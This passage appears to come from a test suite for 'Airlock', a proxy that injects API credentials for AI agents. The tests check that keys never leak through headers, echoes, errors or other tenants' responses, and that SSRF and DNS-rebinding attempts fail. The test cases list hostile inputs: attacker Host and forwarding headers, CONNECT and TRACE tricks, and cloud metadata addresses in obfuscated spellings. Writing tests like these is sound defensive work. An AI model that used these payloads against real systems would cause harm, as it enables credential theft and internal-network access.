    it.each(cases)('$service credential: $variant', async ({ service, variant }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call(`/${service}/v1/loc/${variant}`);
      expect(got.status).toBe(302);
      const locations = got.header('location');
      expect(locations).toHaveLength(1);
      const location = locations[0] as string;
      expect(originSince(before)).toHaveLength(1);
      expectInjected(originSince(before)[0] as RecordedRequest, service);
      const record = await expectNoLeak(got, logsFrom);
      if (variant === 'second-location-line') {
        expect(location).toBe(`${attacker.url}/clean`);
      } else {
        expect(location).toContain(MARKER);
        expect(record.redactions).toBeGreaterThanOrEqual(1);
      }
      if (variant === 'same-origin-absolute') expect(location).toMatch(new RegExp(`^/${service}/v1/next\\?key=.*&page=2$`));
      if (variant === 'same-origin-relative') expect(location).toMatch(new RegExp(`^/${service}/v1/next\\?token=`));
      if (variant.startsWith('attacker') || variant === 'scheme-relative') expect(location).not.toMatch(new RegExp(`^/${service}/`));
    });

    it('following a rewritten same-origin Location goes through Airlock again: authorized again, credential injected afresh', async () => {
      const first = await call('/query/v1/loc/same-origin-absolute');
      const location = first.header('location')[0] as string;
      expect(location.startsWith('/query/v1/next?')).toBe(true);
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      // An agent's HTTP client percent-encodes what a request target may not carry raw.
      const followed = await call(location.replace(/\[/g, '%5B').replace(/\]/g, '%5D'));
      expect(followed.status).toBe(200);
      const seen = originSince(before);
      expect(seen).toHaveLength(1);
      // The agent's (redacted) key=... copy is removed; the one credential is Airlock's, set last.
      expect(seen[0]?.target).toBe(`/v1/next?page=2&key=${encodeURIComponent(KEYS.query)}`);
      // Without a token, the rewritten Location is just an unauthenticated request.
      const anonymous = await call(location.replace(/\[/g, '%5B').replace(/\]/g, '%5D'), { token: null });
      expectProblem(anonymous, 401, 'unauthenticated');
      expect(origin.requests.length).toBe(before + 1);
      await expectNoLeak(followed, logsFrom);
      await expectNoLeak(anonymous, logsFrom);
    });
  });

  describe('other response headers, trailers and the reason phrase carrying the credential', () => {
    const cases = INJECTED.flatMap((service) => HEADER_VARIANTS.map((variant) => ({ service, variant })));
    it.each(cases)('$service credential: $variant', async ({ service, variant }) => {
      const logsFrom = proxy.logLines.length;
      const got = await call(`/${service}/v1/hdr/${variant}`);
      const record = await expectNoLeak(got, logsFrom);
      switch (variant) {
        case 'www-authenticate':
          expect(got.status).toBe(401);
          expect(got.header('www-authenticate')[0]).toContain(MARKER);
          break;
        case 'set-cookie':
          expect(got.header('set-cookie')).toHaveLength(3);
          expect(got.header('set-cookie')).toContain('plain=1');
          expect(got.header('set-cookie')[0]).toContain(MARKER);
          break;
        case 'link':
          expect(got.header('link')[0]).toContain(MARKER);
          break;
        case 'custom':
          expect(got.header(service === 'query' ? 'x-debug-url' : 'x-debug-authorization')[0]).toContain(MARKER);
          expect(got.header('x-debug-key-hex')[0]).toContain(MARKER);
          break;
        case 'content-location':
          expect(got.header('content-location')[0]).toContain(MARKER);
          break;
        case 'refresh':
          expect(got.header('refresh')[0]).toContain(MARKER);
          break;
        case 'trailer':
          expect(got.status).toBe(200);
          expect(got.body).toBe('body first;');
          break;
        case 'reason-phrase':
          expect(got.status).toBe(403);
          // The upstream's reason phrase is never relayed.
          expect(got.statusLine).toBe('HTTP/1.1 403 Forbidden');
          break;
      }
      if (variant !== 'reason-phrase' && variant !== 'trailer') expect(record.redactions).toBeGreaterThanOrEqual(1);
    });
  });

  describe('echo endpoints reflecting the injected credential, in every encoding and framing', () => {
    const cases = INJECTED.flatMap((service) => ECHO_FORMATS.map((format) => ({ service, format })));
    it.each(cases)('$service credential echoed as $format', async ({ service, format }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call(`/${service}/v1/echo/${format}`, { headers: [['Accept-Encoding', 'gzip, deflate, br']] });
      expect(got.status, got.body).toBe(200);
      expectInjected(originSince(before)[0] as RecordedRequest, service);
      // Compressed answers are decoded, scanned and sent on decoded: never passed through unread.
      expect(got.header('content-encoding')).toEqual([]);
      const record = await expectNoLeak(got, logsFrom);
      expect(got.body).toContain(MARKER);
      expect(record.redactions).toBeGreaterThanOrEqual(1);
      expect(record.incomplete).toBe(false);
      if (format === 'sse-deltas') {
        // What a client rebuilds from the deltas holds no key either.
        const text = got.body
          .split('\n')
          .filter((line) => line.startsWith('data: {'))
          .map((line) => (JSON.parse(line.slice(6)) as { choices: Array<{ delta: { content: string } }> }).choices[0]?.delta.content ?? '')
          .join('');
        expect(findLeaks(ALL_KEYS, [{ name: 'rebuilt deltas', text }])).toEqual([]);
        expect(text).toContain(MARKER);
      }
      if (format === 'json' || format === 'gzip' || format === 'deflate' || format === 'br') {
        // Still the upstream's JSON, with the key replaced.
        expect(() => JSON.parse(got.body) as unknown).not.toThrow();
      }
    });
  });

  describe('the Basic composite base64("api:" + key) re-escaped by an echo endpoint', () => {
    /** What an agent recovers from an echoed "Basic ..." value: the decoded user:password. */
    function decodeBasic(value: string | null | undefined): string {
      return Buffer.from((value ?? '').replace(/^Basic /, ''), 'base64').toString('latin1');
    }

    it('control: echoed as JSON.stringify writes it (no "\\/"), the composite is redacted', async () => {
      const logsFrom = proxy.logLines.length;
      const got = await call('/basicslash/v1/echo/json');
      expect(got.status).toBe(200);
      const echoed = (JSON.parse(got.body) as { headers: Record<string, string> }).headers['authorization'];
      expect(echoed).toContain(MARKER);
      expect(decodeBasic(echoed)).not.toContain(KEYS.basicSlash);
      await expectNoLeak(got, logsFrom);
    });

    // Base64 forms also come JSON-escaped ("\/") and percent-encoded (%2B, %2F): src/redaction/secret-forms.ts.
    it('PHP json_encode echo ("\\/" inside the base64): the agent cannot decode the key back', async () => {
      const got = await call('/basicslash/v1/echo-php');
      expect(got.status).toBe(200);
      const echoed = (JSON.parse(got.body) as { headers: Record<string, string> }).headers['authorization'];
      expect(decodeBasic(echoed)).not.toContain(KEYS.basicSlash);
    });

    // Base64 forms also come JSON-escaped ("\/") and percent-encoded (%2B, %2F): src/redaction/secret-forms.ts.
    it('form-urlencoded echo ("%2F", "%2B" inside the base64): the agent cannot decode the key back', async () => {
      const got = await call('/basicslash/v1/echo-form');
      expect(got.status).toBe(200);
      expect(decodeBasic(new URLSearchParams(got.body).get('authorization'))).not.toContain(KEYS.basicSlash);
    });
  });

  describe('Host and forwarding overrides cannot move the connection or the credential', () => {
    const attackerHost = (): string => `127.0.0.1:${attacker.port}`;
    const cases: Array<{ name: string; host?: () => string; headers: () => HeaderLines }> = [
      { name: 'Host: the attacker', host: attackerHost, headers: () => [] },
      { name: 'Host: a foreign name', host: () => 'evil.example', headers: () => [] },
      { name: 'X-Forwarded-Host: the attacker', headers: () => [['X-Forwarded-Host', attackerHost()]] },
      { name: 'X-Forwarded-Proto/Port/Scheme', headers: () => [['X-Forwarded-Proto', 'https'], ['X-Forwarded-Port', String(attacker.port)], ['X-Forwarded-Scheme', 'https']] },
      { name: 'Forwarded: host=attacker;proto=https', headers: () => [['Forwarded', `for=203.0.113.9;host="${attackerHost()}";proto=https`]] },
      { name: 'X-Host / X-Original-Host / X-HTTP-Host-Override', headers: () => [['X-Host', attackerHost()], ['X-Original-Host', attackerHost()], ['X-HTTP-Host-Override', attackerHost()]] },
      { name: 'X-Original-URL / X-Rewrite-URL to the attacker', headers: () => [['X-Original-URL', `${attacker.url}/steal`], ['X-Rewrite-URL', `${attacker.url}/steal`]] },
      { name: 'X-Real-IP and a spoofed X-Forwarded-For', headers: () => [['X-Real-IP', '10.0.0.1'], ['X-Forwarded-For', '169.254.169.254']] },
      { name: 'all of them at once', host: attackerHost, headers: () => [['X-Forwarded-Host', attackerHost()], ['Forwarded', `host=${attackerHost()}`], ['X-Forwarded-Proto', 'http']] },
    ];
    it.each(cases)('$name', async ({ host, headers }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call('/bearer/v1/echo/json', { ...(host === undefined ? {} : { host: host() }), headers: headers() });
      expect(got.status, got.body).toBe(200);
      const seen = originSince(before);
      expect(seen).toHaveLength(1);
      const rec = seen[0] as RecordedRequest;
      expectInjected(rec, 'bearer');
      for (const name of ['forwarded', 'x-forwarded-host', 'x-forwarded-proto', 'x-forwarded-port', 'x-forwarded-scheme', 'x-host', 'x-original-host', 'x-http-host-override', 'x-original-url', 'x-rewrite-url', 'x-real-ip']) {
        expect(rec.header(name), name).toEqual([]);
      }
      // Airlock's own X-Forwarded-For: the agent's address, not the spoofed one.
      expect(rec.header('x-forwarded-for')).toEqual(['127.0.0.1']);
      await expectNoLeak(got, logsFrom);
    });

    it.each([
      { name: 'absolute-form target naming the attacker', line: () => `GET http://127.0.0.1:${attacker.port}/bearer/v1/echo/json HTTP/1.1`, status: 400, code: 'invalid_request' },
      { name: 'absolute-form target naming the proxy itself', line: () => `GET ${proxy.url}/bearer/v1/echo/json HTTP/1.1`, status: 400, code: 'invalid_request' },
      { name: 'CONNECT tunnel to the attacker', line: () => `CONNECT 127.0.0.1:${attacker.port} HTTP/1.1`, status: 405, code: 'method_not_allowed' },
    ])('$name is refused, nothing forwarded', async ({ line, status, code }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call('(request line)', { requestLine: line() });
      expectProblem(got, status, code);
      expect(origin.requests.length).toBe(before);
      await expectNoLeak(got, logsFrom);
    });

    it('an Upgrade (websocket) to tunnel past the redactor is refused, nothing forwarded', async () => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call('/bearer/v1/echo/json', { headers: [['Connection', 'Upgrade'], ['Upgrade', 'websocket'], ['Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ=='], ['Sec-WebSocket-Version', '13']] });
      expectProblem(got, 400, 'invalid_request');
      expect(origin.requests.length).toBe(before);
      await expectNoLeak(got, logsFrom);
    });
  });

  describe('TRACE and TRACK (which reflect the request, injected headers included) are never forwarded', () => {
    it.each([
      { name: 'TRACE with the agent token', method: 'TRACE', headers: [] as HeaderLines },
      { name: 'TRACE with Max-Forwards: 0 (a proxy must not answer it by echoing)', method: 'TRACE', headers: [['Max-Forwards', '0']] as HeaderLines },
      { name: 'TRACE with a body', method: 'TRACE', headers: [['Content-Type', 'text/plain']] as HeaderLines, body: 'reflect me' },
    ])('$name: 405 method_not_allowed, the upstream receives nothing, the answer echoes nothing', async ({ method, headers, body }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call('/bearer/v1/echo/json', { method, headers, ...(body === undefined ? {} : { body }) });
      expectProblem(got, 405, 'method_not_allowed');
      expect(got.raw).not.toContain(tester.token);
      expect(got.raw).not.toContain('reflect me');
      expect(origin.requests.length).toBe(before);
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ code: 'method_not_allowed', status: 405, upstream_status: null });
    });

    it('TRACE without a token: 401 (authentication comes first), nothing forwarded', async () => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call('/bearer/v1/echo/json', { method: 'TRACE', token: null });
      expectProblem(got, 401, 'unauthenticated');
      expect(origin.requests.length).toBe(before);
      await expectNoLeak(got, logsFrom);
    });

    // The README's error table lists TRACK under 405; node's HTTP parser (llhttp) does not know the
    // method, so Airlock's raw-socket refusal answers 400 before any stage runs. Either way it is refused
    // with a problem, audited, and nothing is forwarded, which is what matters here.
    it.each([
      { name: 'TRACK (IIS), which node does not parse', line: 'TRACK /bearer/v1/echo/json HTTP/1.1' },
      { name: 'lower-case trace', line: 'trace /bearer/v1/echo/json HTTP/1.1' },
    ])('$name: 400 invalid_request, nothing forwarded, nothing echoed', async ({ line }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call('(request line)', { requestLine: line });
      const problem = expectProblem(got, 400, 'invalid_request');
      // Said as what it is (found by a README walkthrough: the detail spoke of framing and headers).
      expect(problem.detail).toMatch(/^The request method is not one Airlock's HTTP parser accepts/);
      expect(got.raw).not.toContain(tester.token);
      expect(origin.requests.length).toBe(before);
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ decision: 'deny', code: 'invalid_request', status: 400 });
    });

    it.each([
      { name: 'X-HTTP-Method-Override: TRACE', target: '/bearer/v1/echo/json', headers: [['X-HTTP-Method-Override', 'TRACE']] as HeaderLines },
      { name: 'X-Method-Override: TRACK', target: '/bearer/v1/echo/json', headers: [['X-Method-Override', 'TRACK']] as HeaderLines },
      { name: '?_method=TRACE', target: '/bearer/v1/echo/json?_method=TRACE&a=1', headers: [] as HeaderLines },
    ])('$name: the override is stripped, the upstream runs the authorized GET', async ({ target, headers }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call(target, { headers });
      expect(got.status).toBe(200);
      const rec = originSince(before)[0] as RecordedRequest;
      expect(rec.method).toBe('GET');
      expect(rec.header('x-http-method-override')).toEqual([]);
      expect(rec.header('x-method-override')).toEqual([]);
      expect(rec.target).not.toMatch(/_method|TRACE/i);
      await expectNoLeak(got, logsFrom);
    });

    it.each(['TRACE', 'TRACK', 'CONNECT'])('a route allowing %s is a config error', (method) => {
      const built = buildConfig(
        { listen: '127.0.0.1:0', data_dir: tmpdir(), services: { s: { upstream: 'http://127.0.0.1:9', credential: { secret: 'env:X', inject: 'bearer' }, routes: [{ method, path: '/v1/*', scope: 'api' }] } } },
        { baseDir: tmpdir() },
      );
      expect(built.config).toBeNull();
      expect(built.problems.map((p) => p.message).join('\n')).toContain('never forwarded');
    });
  });

  describe('upstream failures: the problem, the logs and the audit carry no credential (query-injected ones included)', () => {
    it('connection refused on a query-injected service: 502 upstream_unreachable', async () => {
      const logsFrom = proxy.logLines.length;
      const got = await call('/refused/v1/echo/json?q=1');
      const problem = expectProblem(got, 502, 'upstream_unreachable');
      expect(problem.detail).toContain('refused');
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ service: 'refused', code: 'upstream_unreachable', status: 502, upstream_status: null });
    });

    it('no response headers in time on a query-injected service: 504 upstream_timeout', async () => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call('/slow/v1/hang?q=1');
      expectProblem(got, 504, 'upstream_timeout');
      expect(receivedKey(originSince(before)[0] as RecordedRequest)).toBe(KEYS.slow);
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ service: 'slow', code: 'upstream_timeout', status: 504 });
    });

    it('a body that stalls in the middle of the key (timeouts.body): cut, the held key bytes never flushed', async () => {
      const logsFrom = proxy.logLines.length;
      const got = await call('/slow/v1/stall');
      expect(got.status).toBe(200);
      expect(got.raw).not.toContain(KEYS.slow.slice(0, 12));
      const record = await expectNoLeak(got, logsFrom);
      expect(record.incomplete).toBe(true);
    });

    it.each(INJECTED)('%s credential: a reset after the first 14 key bytes leaves none of them with the agent', async (service) => {
      const logsFrom = proxy.logLines.length;
      const got = await call(`/${service}/v1/reset`);
      expect(got.raw).not.toContain(KEYS[service].slice(0, 14));
      const record = await expectNoLeak(got, logsFrom);
      expect(record.incomplete).toBe(true);
    });

    it.each(INJECTED)('%s credential: a body in a coding Airlock cannot scan (zstd) is refused, not relayed', async (service) => {
      const logsFrom = proxy.logLines.length;
      const got = await call(`/${service}/v1/zstd`, { headers: [['Accept-Encoding', 'zstd, gzip']] });
      expectProblem(got, 502, 'unscannable_response');
      await expectNoLeak(got, logsFrom);
    });

    const statuses = [400, 401, 403, 404, 500, 502, 503] as const;
    const cases = INJECTED.flatMap((service) => statuses.map((status) => ({ service, status })));
    it.each(cases)('$service credential: an upstream $status page printing its URL and credential is relayed redacted', async ({ service, status }) => {
      const logsFrom = proxy.logLines.length;
      const got = await call(`/${service}/v1/fail/${status}?trace=1`);
      expect(got.status).toBe(status);
      // The upstream's own reason phrase (here carrying the key on 503) is never relayed: the standard one is.
      expect(got.statusLine).toBe(`HTTP/1.1 ${status} ${STATUS_CODES[status] ?? ''}`);
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ upstream_status: status, code: null });
      if (service === 'query' || status === 400 || status === 500) {
        expect(`${got.body}\n${got.raw}`).toContain(MARKER);
        expect(record.redactions).toBeGreaterThanOrEqual(1);
      }
    });
  });

  describe('the egress guard: host names resolving to non-public addresses are refused at connect time', () => {
    it('localhost (loopback, from the real resolver) without allow_private: 502, the internal server receives nothing', async () => {
      const logsFrom = proxy.logLines.length;
      const got = await call('/local/v1/echo/json');
      const problem = expectProblem(got, 502, 'upstream_unreachable');
      expect(problem.detail).toContain('non-public address');
      expect(problem.detail).toContain('allow_private');
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ service: 'local', decision: 'allow', code: 'upstream_unreachable', status: 502, upstream_status: null, credential: 'env:EX_LOCAL' });
      // The operator's log names the refused address (and never the credential).
      expect(proxy.logLines.slice(logsFrom).join('\n')).toContain('127.0.0.1 (loopback)');
    });

    it('control: the same upstream with allow_private: true connects', async () => {
      const logsFrom = proxy.logLines.length;
      const got = await call('/localok/v1/echo/json');
      internalExpected++;
      expect(got.status, got.body).toBe(200);
      expect(internal.requests.at(-1)?.header('host')).toEqual([`localhost:${internal.port}`]);
      expect(internal.requests.at(-1)?.header('authorization')).toEqual([`Bearer ${KEYS.localok}`]);
      await expectNoLeak(got, logsFrom);
    });

    const answers: Array<{ name: string; addresses: LookupAddress[] }> = [
      { name: 'loopback 127.0.0.1', addresses: [{ address: '127.0.0.1', family: 4 }] },
      { name: 'loopback 127.1.2.3', addresses: [{ address: '127.1.2.3', family: 4 }] },
      { name: 'loopback ::1', addresses: [{ address: '::1', family: 6 }] },
      { name: 'IPv4-mapped loopback ::ffff:127.0.0.1', addresses: [{ address: '::ffff:127.0.0.1', family: 6 }] },
      { name: 'private 10.0.0.7', addresses: [{ address: '10.0.0.7', family: 4 }] },
      { name: 'private 172.16.5.4', addresses: [{ address: '172.16.5.4', family: 4 }] },
      { name: 'private 192.168.1.10', addresses: [{ address: '192.168.1.10', family: 4 }] },
      { name: 'CGNAT 100.64.0.1', addresses: [{ address: '100.64.0.1', family: 4 }] },
      { name: 'unique-local fd12::1', addresses: [{ address: 'fd12::1', family: 6 }] },
      { name: 'link-local 169.254.10.10', addresses: [{ address: '169.254.10.10', family: 4 }] },
      { name: 'link-local fe80::1', addresses: [{ address: 'fe80::1', family: 6 }] },
      { name: 'AWS/GCP metadata 169.254.169.254', addresses: [{ address: '169.254.169.254', family: 4 }] },
      { name: 'ECS metadata 169.254.170.2', addresses: [{ address: '169.254.170.2', family: 4 }] },
      { name: 'Alibaba metadata 100.100.100.200', addresses: [{ address: '100.100.100.200', family: 4 }] },
      { name: 'Azure wireserver 168.63.129.16', addresses: [{ address: '168.63.129.16', family: 4 }] },
      { name: 'AWS IPv6 metadata fd00:ec2::254', addresses: [{ address: 'fd00:ec2::254', family: 6 }] },
      { name: 'GCP IPv6 metadata fd20:ce::254', addresses: [{ address: 'fd20:ce::254', family: 6 }] },
      { name: 'NAT64 metadata 64:ff9b::a9fe:a9fe', addresses: [{ address: '64:ff9b::a9fe:a9fe', family: 6 }] },
      { name: '6to4 metadata 2002:a9fe:a9fe::1', addresses: [{ address: '2002:a9fe:a9fe::1', family: 6 }] },
      { name: 'unspecified 0.0.0.0', addresses: [{ address: '0.0.0.0', family: 4 }] },
      { name: 'public first, loopback second (multi-record rebinding)', addresses: [{ address: '8.8.8.8', family: 4 }, { address: '127.0.0.1', family: 4 }] },
      { name: 'public IPv6 first, metadata second', addresses: [{ address: '2606:4700:4700::1111', family: 6 }, { address: '169.254.169.254', family: 4 }] },
    ];
    it.each(answers)('$name: 502 upstream_unreachable, no connection, audited', async ({ addresses }) => {
      resolver.answers = addresses;
      const asked = resolver.questions;
      const logsFrom = proxy.logLines.length;
      const got = await call('/rebind/v1/echo/json?q=1');
      const problem = expectProblem(got, 502, 'upstream_unreachable');
      expect(problem.detail).toContain('non-public address');
      expect(resolver.questions).toBeGreaterThan(asked);
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ service: 'rebind', code: 'upstream_unreachable', status: 502, upstream_status: null, credential: 'env:EX_REBIND' });
    });

    it('control: allow_private: true with the same name and answer connects (the test resolver is what Airlock asked)', async () => {
      resolver.answers = [{ address: '127.0.0.1', family: 4 }];
      const asked = resolver.questions;
      const logsFrom = proxy.logLines.length;
      const got = await call('/rebindok/v1/echo/json');
      internalExpected++;
      expect(got.status, got.body).toBe(200);
      expect(resolver.questions).toBeGreaterThan(asked);
      expect(internal.requests.at(-1)?.header('host')).toEqual([`${REBIND_HOST}:${internal.port}`]);
      await expectNoLeak(got, logsFrom);
    });

    it('rebinding over time: every new connection asks DNS again and is judged on that answer', async () => {
      // The proxy has been running (and serving this name) for a while; each answer below is what
      // an attacker's DNS hands out at the moment Airlock connects.
      const sequence = ['10.1.2.3', '169.254.169.254', '127.0.0.1', '192.168.0.1'];
      for (const address of sequence) {
        resolver.answers = [{ address, family: 4 }];
        const asked = resolver.questions;
        const logsFrom = proxy.logLines.length;
        const got = await call('/rebind/v1/echo/json');
        expectProblem(got, 502, 'upstream_unreachable');
        expect(resolver.questions, `a fresh DNS question for the connection to ${address}`).toBe(asked + 1);
        await expectNoLeak(got, logsFrom);
        expect(proxy.logLines.slice(logsFrom).join('\n')).toContain(address);
      }
    });

    it('a name that does not resolve: 502, no credential in the detail or the logs', async () => {
      resolver.answers = [];
      const logsFrom = proxy.logLines.length;
      const got = await call('/rebind/v1/echo/json?q=1');
      const problem = expectProblem(got, 502, 'upstream_unreachable');
      expect(problem.detail).toContain('does not resolve');
      await expectNoLeak(got, logsFrom);
    });

    it.each([
      'http://169.254.169.254',
      'http://169.254.169.254:80/latest/meta-data',
      'http://169.254.170.2',
      'http://100.100.100.200',
      'http://[fe80::1]:8080',
      'http://[fd00:ec2::254]',
      'http://[fd20:ce::254]',
      'http://[::ffff:169.254.169.254]',
      'http://0xa9fea9fe',
      'http://2852039166',
      'http://0251.0376.0251.0376',
      'http://169.254.169.254.',
    ])('an IP literal upstream %s (link-local / metadata, in any spelling) is a config error without allow_private', (upstream) => {
      const config = (extra: Record<string, unknown>): Record<string, unknown> => ({
        listen: '127.0.0.1:0',
        data_dir: tmpdir(),
        services: { meta: { upstream, credential: { secret: 'env:X', inject: 'bearer' }, routes: ROUTES, ...extra } },
      });
      const refused = buildConfig(config({}), { baseDir: tmpdir() });
      expect(refused.config).toBeNull();
      const problems = refused.problems.filter((p) => p.severity === 'error');
      expect(problems.map((p) => p.path.join('.'))).toEqual(['services.meta.upstream']);
      expect(problems[0]?.message).toContain('allow_private');
      // The operator's explicit choice is honoured.
      expect(buildConfig(config({ allow_private: true }), { baseDir: tmpdir() }).config).not.toBeNull();
    });
  });

  describe("another agent's or another service's credential handed back by a shared upstream", () => {
    it("scope service (shapes off): alice gets bob's session (a mixed-up upstream) - bob's key is redacted from alice's answer", async () => {
      state.lastWhoami = null;
      const bobCall = await call('/tenants/v1/whoami', { token: bob.token });
      expect(bobCall.status).toBe(200);
      const logsFrom = proxy.logLines.length;
      const got = await call('/tenants/v1/whoami', { token: alice.token });
      expect(got.status).toBe(200);
      const you = (JSON.parse(got.body) as { you: string }).you;
      expect(you).toBe(`Bearer ${MARKER}`);
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ agent: 'alice', credential: 'env:EX_ALICE', redactions: 1 });
    });

    it("scope request (key shapes on): bob's key in alice's answer is caught by its shape", async () => {
      state.lastWhoami = null;
      await call('/tenantsreq/v1/whoami', { token: bob.token });
      const logsFrom = proxy.logLines.length;
      const got = await call('/tenantsreq/v1/whoami', { token: alice.token });
      expect(got.status).toBe(200);
      expect(got.body).toContain(MARKER);
      await expectNoLeak(got, logsFrom);
    });

    it("scope all (shapes off): another service's credential handed back is redacted", async () => {
      state.lastWhoami = null;
      await call('/bearer/v1/whoami');
      const logsFrom = proxy.logLines.length;
      const got = await call('/allscope/v1/whoami');
      expect(got.status).toBe(200);
      expect((JSON.parse(got.body) as { you: string }).you).toBe(`Bearer ${MARKER}`);
      await expectNoLeak(got, logsFrom);
    });

    it.each([
      { name: "bob's key as her own bearer header", headers: [['X-Api-Key', KEYS.bob]] as HeaderLines, target: '/tenants/v1/echo/json' },
      { name: "bob's key in the query", headers: [] as HeaderLines, target: `/tenants/v1/echo/json?api_key=${KEYS.bob}` },
      { name: "bob's key base64-encoded in a custom header", headers: [['X-Note', Buffer.from(`u:${KEYS.bob}`).toString('base64')]] as HeaderLines, target: '/tenants/v1/echo/json' },
    ])("alice presenting bob's credential ($name) is refused 400 and the audit names bob's credential", async ({ headers, target }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const got = await call(target, { token: alice.token, headers });
      expectProblem(got, 400, 'invalid_request');
      expect(origin.requests.length).toBe(before);
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ agent: 'alice', code: 'invalid_request', credential: 'env:EX_BOB' });
    });
  });

  it('nothing any agent received, no log line and no audit line holds any form of any credential', () => {
    const surfaces: Surface[] = [
      ...agentSaw,
      { name: 'all log lines', text: proxy.logLines.join('\n') },
      { name: 'audit log', text: proxy.auditText() },
    ];
    expect(leaksIn(surfaces)).toEqual([]);
    expect(attacker.requests).toEqual([]);
  });

  it('the process stayed healthy (no unhandled rejection, event loop responsive)', () => {
    watch.assertHealthy();
  });
});
